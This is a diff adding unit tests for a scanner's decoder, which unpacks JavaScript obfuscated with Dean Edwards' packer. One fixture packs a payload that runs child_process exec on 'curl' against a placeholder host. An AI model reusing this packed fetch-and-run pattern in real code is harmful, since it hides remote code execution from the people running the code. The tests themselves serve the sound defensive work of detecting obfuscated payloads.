@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { decodedTexts, MAX_DECODED_PER_FILE, readable } from './decoded.js';
+import { decodedTexts, MAX_DECODED_PER_FILE, readable, unpackedScripts } from './decoded.js';
 
 const texts = (code: string): string[] => decodedTexts(code).map((d) => d.text);
 
@@ -97,5 +97,23 @@ describe('character codes shifted by a constant the file applies', () => {
     expect(pickleText(Buffer.from([0x80, 4, 0xff, 0xfe]))).toBe('');
     expect(pickleText(Buffer.from('cposix\nsys', 'latin1'))).toBeNull();
     expect(pickleText(Buffer.alloc(0))).toBeNull();
+  });
+});
+
+describe("scripts packed with Dean Edwards' packer", () => {
+  const packed = (payload: string, radix: number, words: string): string =>
+    `eval(function(p,a,c,k,e,d){e=function(c){return c.toString(a)};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('${payload}',${radix},${words.split('|').length},'${words}'.split('|'),0,{}))`;
+  it('reads the payload with each index word replaced by its word of the list, quotes unescaped', () => {
+    const code = packed("0 1=2(\\'3\\');1.4(\\'5 -s 6\\')", 36, 'var|cp|require|child_process|exec|curl|http://x.example.invalid/a');
+    expect(unpackedScripts(code).map((d) => d.text)).toEqual(["var cp=require('child_process');cp.exec('curl -s http://x.example.invalid/a')"]);
+    expect(decodedTexts(code).map((d) => d.text)).toContain("var cp=require('child_process');cp.exec('curl -s http://x.example.invalid/a')");
+  });
+  it('keeps words the list leaves empty or out of range, and reads base 62', () => {
+    expect(unpackedScripts(packed('0 1 z Z 10', 62, 'a||b')).map((d) => d.text)).toEqual(['a 1 z Z 10']);
+    expect(unpackedScripts(packed('A', 62, Array.from({ length: 40 }, (_, i) => (i === 36 ? 'hit' : 'w')).join('|'))).map((d) => d.text)).toEqual(['hit']);
+  });
+  it('reads nothing from text that only looks like a call with a word list', () => {
+    expect(unpackedScripts("x.split('|')")).toEqual([]);
+    expect(unpackedScripts(packed('same', 10, 'a|b'))).toEqual([]);
   });
 });
